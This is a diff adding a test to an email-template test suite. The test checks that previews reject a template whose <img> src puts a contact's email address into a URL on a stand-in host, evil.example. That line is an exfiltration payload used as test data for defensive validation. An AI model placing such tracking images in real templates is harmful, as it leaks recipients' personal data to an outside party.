@@ -297,6 +297,10 @@ describe('templates of the organisation', () => {
     ).rejects.toMatchObject({ code: 'contact_not_found' });
     const broken = app.call(emailTemplates.preview, { body: { ...preview, html: '{{#each contact.tags}}' } });
     await expect(broken).rejects.toMatchObject({ code: 'email_template_broken' });
+    const telling = { ...preview, html: '<p>Hi</p>\n<img src="https://evil.example/{{contact.email}}">' };
+    await expect(app.call(emailTemplates.preview, { body: telling })).rejects.toMatchObject({
+      details: { html: [expect.stringMatching(/^Line 2: a variable cannot stand in src of <img>/)] },
+    });
   });
 
   it('give way to the built-in one where they are gone', async () => {
